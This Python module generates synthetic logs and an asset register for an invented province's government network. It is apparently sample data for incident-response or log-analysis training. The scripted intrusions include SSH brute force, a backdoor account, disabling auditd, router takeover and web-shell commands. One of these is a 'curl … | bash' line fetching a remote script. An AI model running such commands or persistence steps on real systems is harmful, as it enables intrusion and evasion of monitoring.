# SPDX-License-Identifier: Apache-2.0
#
# The logs that go with the capture: a web hosting server, an application server's auth.log, the PPID server's
# auditd, the province's router, an application's JSON lines, and the register of assets.
"""Log files of the sample province."""

import datetime
import json

from frames import ZONE, Noise, at
from office import CHROME, FIREFOX, GOOGLEBOT, PHONE

ISO, APACHE = "%Y-%m-%dT%H:%M:%S.%f", "%d/%b/%Y:%H:%M:%S +0800"


def moment(time):
    return datetime.datetime.fromtimestamp(time / 1_000_000, ZONE)


def sorted_lines(entries):
    return "".join(line + "\n" for _, _, line in sorted((time, number, line) for number, (time, line) in enumerate(entries)))


def access_log():
    """Apache's vhost_combined of a hosting server with sites of agencies and villages."""
    noise, out = Noise("access"), []

    def hit(time, host, client, target, status=200, size=9000, agent=CHROME, referer="-", method="GET"):
        out.append((time, f'{host}:443 {client} - - [{moment(time).strftime(APACHE)}] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"'))

    sites = ("dinkes.example.go.id", "sukamaju.desa.example.go.id", "dishub.example.go.id")
    pages = ("/", "/berita/jadwal-imunisasi", "/layanan/slot-antrian?tanggal=17", "/profil", "/berita/bahaya-judi-online", "/kontak", "/unduh/formulir.pdf",
             "/assets/css/style.css", "/assets/img/kepala.jpg")
    for day in (16, 17, 18):
        for number in range(70):
            time = at(f"{day} 07:00:00") + number * 540_000_000 + noise.number(0, 400_000_000)
            client = noise.pick(("203.0.113.101", "203.0.113.120", "198.51.100.140", "192.0.2.77", "10.20.5.20", "10.20.8.15", "2001:db8:99::1234"))
            hit(time, noise.pick(sites), client, noise.pick(pages), size=noise.number(900, 42000), agent=noise.pick((CHROME, FIREFOX, PHONE)),
                referer=noise.pick(("-", "https://www.google.com/", "https://www.example.go.id/")))
        for number in range(6):
            hit(at(f"{day} 02:00:00") + number * 131_000_000, noise.pick(sites), "203.0.113.201", noise.pick(pages[:6]), agent=GOOGLEBOT)
        hit(at(f"{day} 12:00:00"), "dishub.example.go.id", "192.0.2.77", "/favicon.ico", 404, 209)
        hit(at(f"{day} 08:00:00"), "dinkes.example.go.id", "10.20.5.20", "/wp-login.php", 302, 0, FIREFOX, method="POST")
    # A village site was turned into a doorway kit: a crawler is given page after page.
    for number, word in enumerate(("resmi", "pulsa", "murah", "asia", "jaya", "raja", "bintang", "sakti", "mega", "super", "indo", "naga")):
        hit(at("16 03:20:00") + number * 47_000_000, "sukamaju.desa.example.go.id", "203.0.113.202", f"/agenda/?daftar-agen-poker-jackpot-{word}", size=38000 + number,
            agent=GOOGLEBOT)
    # Guessing at the health agency's WordPress; it fails.
    for number in range(36):
        hit(at("17 22:14:00") + number * 4_000_000, "dinkes.example.go.id", "198.51.100.61", "/wp-login.php", 200, 7012, FIREFOX, method="POST")
    return sorted_lines(out)


def auth_log():
    """sshd and sudo of an application server, as Debian 12 writes them: guessing, success, a new account."""
    noise, out, host = Noise("auth"), [], "srv-aplikasi"

    def line(time, text):
        out.append((time, f"{moment(time).strftime(ISO)}+08:00 {host} {text}"))

    for day in (16, 17, 18):
        for hour in range(7, 18):
            time = at(f"{day} {hour:02}:17:01")
            line(time, "CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)" % (2000 + day * 30 + hour))
            line(time + 300_000, "CRON[%d]: pam_unix(cron:session): session closed for user root" % (2000 + day * 30 + hour))
        time = at(f"{day} 08:33:12")
        line(time, f"sshd[{3000 + day}]: Accepted publickey for budi from 10.20.1.9 port {noise.number(40000, 60000)} ssh2: ED25519 SHA256:Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx5")
        line(time + 9_000, f"sshd[{3000 + day}]: pam_unix(sshd:session): session opened for user budi(uid=1000) by (uid=0)")
        line(time + 40_000_000, "sudo:     budi : TTY=pts/0 ; PWD=/home/budi ; USER=root ; COMMAND=/usr/bin/apt update")
        line(time + 40_100_000, "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by budi(uid=1000)")
        line(time + 75_000_000, "sudo: pam_unix(sudo:session): session closed for user root")
        line(time + 900_000_000, f"sshd[{3000 + day}]: pam_unix(sshd:session): session closed for user budi")
        line(at(f"{day} 10:02:40"), f"sshd[{3100 + day}]: Failed password for budi from 10.20.1.9 port {noise.number(40000, 60000)} ssh2")
    attacker = "203.0.113.7"
    for number in range(18):
        name = ("root", "invalid user admin", "operator", "invalid user test", "operator", "root")[number % 6]
        time = at("17 02:14:05") + number * 4_300_000
        line(time, f"sshd[{4700 + number}]: Failed password for {name} from {attacker} port {noise.number(40000, 60000)} ssh2")
        line(time + 700_000, f"sshd[{4700 + number}]: Connection closed by authenticating user {name.split()[-1]} {attacker} port {noise.number(40000, 60000)} [preauth]")
    time = at("17 02:16:02")
    line(time, f"sshd[4790]: Accepted password for operator from {attacker} port 51400 ssh2")
    line(time + 20_000, "sshd[4790]: pam_unix(sshd:session): session opened for user operator(uid=1001) by (uid=0)")
    line(time + 61_000_000, "sudo: operator : TTY=pts/1 ; PWD=/home/operator ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash sysupdate")
    line(time + 61_050_000, "useradd[4811]: new user: name=sysupdate, UID=1002, GID=1002, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1")
    line(time + 95_000_000, "sudo: operator : TTY=pts/1 ; PWD=/home/operator ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd")
    line(time + 180_000_000, "sshd[4790]: pam_unix(sshd:session): session closed for user operator")
    return sorted_lines(out)


def audit_log():
    """auditd of the PPID server: ordinary work, and the commands of the web shell in the capture."""
    out, serial = [], 8800

    def event(time, uid, program, arguments, folder="/home/budi", login=True):
        nonlocal serial
        serial += 7
        head = f"msg=audit({time // 1_000_000}.{time // 1000 % 1000:03}:{serial}):"
        who = f"auid={uid if login else 4294967295} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid}"
        seat = "tty=pts0 ses=3" if login else "tty=(none) ses=4294967295"
        name = program.rsplit("/", 1)[-1]
        coded = [value.encode().hex().upper() if any(c in value for c in ' "') else f'"{value}"' for value in arguments]
        lines = (f'type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55e0 a2=55f0 a3=8 items=2 ppid={serial - 40} pid={serial} {who} {seat} '
                 f'comm="{name}" exe="{program}" subj=unconfined key="exec"',
                 f"type=EXECVE {head} argc={len(arguments)} " + " ".join(f"a{i}={value}" for i, value in enumerate(coded)),
                 f'type=CWD {head} cwd="{folder}"',
                 f'type=PATH {head} item=0 name="{program}" inode={serial * 3} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
                 f"type=PROCTITLE {head} proctitle={'00'.join(value.encode().hex().upper() for value in arguments)}")
        out.extend((time, line) for line in lines)

    for day in (16, 17, 18):
        event(at(f"{day} 08:50:00"), 1000, "/usr/bin/bash", ["bash", "-c", "df -h"])
        event(at(f"{day} 08:50:00.010"), 1000, "/usr/bin/df", ["df", "-h"])
        event(at(f"{day} 08:52:30"), 1000, "/usr/bin/tail", ["tail", "/var/log/nginx/error.log"])
        event(at(f"{day} 23:30:00"), 0, "/usr/bin/tar", ["tar", "czf", "/srv/cadangan/ppid.tgz", "/var/www/ppid"], "/root")
    folder = "/var/www/ppid/uploads/files"
    for time, command in ((at("17 03:12:20.060"), "id"), (at("17 03:12:20.590"), "uname -a"), (at("17 03:12:21.120"), "ls /var/www")):
        event(time, 33, "/usr/bin/dash", ["sh", "-c", command], folder, login=False)
    event(at("17 03:15:41"), 33, "/usr/bin/dash", ["sh", "-c", "curl -fsSL http://198.51.100.9/x.sh | bash"], folder, login=False)
    return sorted_lines(out)


def routeros_log():
    """The province's gateway, as a syslog server stores it."""
    out, host = [], "10.20.0.1"

    def line(time, text):
        out.append((time, f"{moment(time).strftime(ISO)}+08:00 {host} {text}"))

    for day in (16, 17, 18):
        line(at(f"{day} 08:05:10"), "system,info,account user noc logged in from 10.20.1.9 via winbox")
        line(at(f"{day} 08:31:40"), "system,info,account user noc logged out from 10.20.1.9 via winbox")
        for number in range(6):
            time = at(f"{day} 07:10:00") + number * 5_400_000_000
            line(time, f"dhcp,info dhcp-OPD assigned 10.20.8.{15 + number} for 00:00:5e:00:53:{0x60 + number:02x} HP-{number}")
            line(time + 60_000_000, f"firewall,info drop-tcp input: in:ether1-WAN out:(unknown 0), connection-state:new src-mac 00:00:5e:00:53:02, proto TCP (SYN), "
                                    f"192.0.2.{20 + number}:5{number}388->198.51.100.2:23, len 40")
        line(at(f"{day} 15:20:00"), "interface,info ether5 link down")
        line(at(f"{day} 15:20:09"), "interface,info ether5 link up (speed 1G, full duplex)")
    attacker = "203.0.113.35"
    for number in range(9):
        line(at("18 01:31:00") + number * 11_000_000, f"system,error,critical login failure for user admin from {attacker} via winbox")
    line(at("18 01:33:05"), f"system,info,account user admin logged in from {attacker} via winbox")
    line(at("18 01:35:20"), "system,info socks config changed by admin")
    line(at("18 01:36:02"), "system,info user sysadmin added by admin")
    line(at("18 01:41:00"), f"system,info,account user admin logged out from {attacker} via winbox")
    return sorted_lines(out)


def app_jsonl():
    """An application's own log: permits, with the words that auditors ask for (who, what, on what, result)."""
    noise, out = Noise("app"), []
    actions = ("permohonan.buat", "permohonan.lihat", "lampiran.unggah", "permohonan.setujui", "laporan.unduh")
    for day in (16, 17, 18):
        for number in range(14):
            time = at(f"{day} 08:12:00") + number * 1_760_000_000 + noise.number(0, 600_000_000)
            entry = {"timestamp": moment(time).strftime(ISO) + "+08:00", "app": "perizinan", "level": "info", "user": f"petugas{noise.number(1, 4)}",
                     "action": noise.pick(actions), "object": f"IZN-2026-{noise.number(1000, 1900)}", "src_ip": noise.pick(("10.20.7.5", "10.20.7.8")),
                     "result": "ok", "correlation_id": noise.take(8).hex()}
            out.append((time, json.dumps(entry)))
    return sorted_lines(out)


ASSETS = """\
# SPDX-License-Identifier: Apache-2.0
# Register of assets of an invented province. Codes and names are examples; contacts are role mailboxes.
agencies:
  - code: "00.01"
    name: Dinas Komunikasi, Informatika dan Persandian
    zone: WITA
    contact: csirt@example.go.id
    networks: [10.20.0.0/24, 10.20.1.0/24]
    hosts: [www.example.go.id, mail.example.go.id, srv-aplikasi]
    log-sources: [tools/samples/routeros.log, tools/samples/auth.log, srv-aplikasi]
  - code: "00.02"
    name: PPID Utama
    zone: WITA
    contact: agensiber.ppid@example.go.id
    networks: [10.20.4.10/32, "2001:db8:20:4::10/128"]
    hosts: [ppid.example.go.id]
    log-sources: [tools/samples/audit.log]
  - code: "00.03"
    name: Dinas Kesehatan
    zone: WITA
    contact: agensiber.dinkes@example.go.id
    networks: [10.20.5.0/24]
    hosts: [dinkes.example.go.id]
  - code: "00.04"
    name: Badan Perencanaan Pembangunan Daerah
    zone: WITA
    contact: agensiber.bappeda@example.go.id
    networks: [10.20.6.0/24, 10.20.4.23/32]
    hosts: [sakip.example.go.id]
  - code: "00.05"
    name: Dinas Penanaman Modal dan Pelayanan Terpadu Satu Pintu
    zone: WITA
    contact: agensiber.dpmptsp@example.go.id
    networks: [10.20.7.0/24, 10.20.4.22/32]
    hosts: [izin.example.go.id]
    log-sources: [tools/samples/app.jsonl]
  - code: "00.06"
    name: Badan Kepegawaian Daerah
    zone: WITA
    contact: agensiber.bkd@example.go.id
    networks: [10.20.4.31/32]
    hosts: [simpeg.example.go.id]
  - code: "00.07"
    name: Badan Pengelola Keuangan dan Aset Daerah
    zone: WITA
    contact: agensiber.bpkad@example.go.id
    networks: [10.20.4.60/32, 10.20.4.61/32]
    hosts: [aset.example.go.id, lama.example.go.id]
  - code: "00.08"
    name: Dinas Perhubungan
    zone: WITA
    contact: agensiber.dishub@example.go.id
    networks: [10.20.8.0/24]
    hosts: [dishub.example.go.id]
  - code: "00.09"
    name: Dinas Pemberdayaan Masyarakat dan Desa
    zone: WITA
    contact: agensiber.dpmd@example.go.id
    hosts: [.desa.example.go.id]
"""
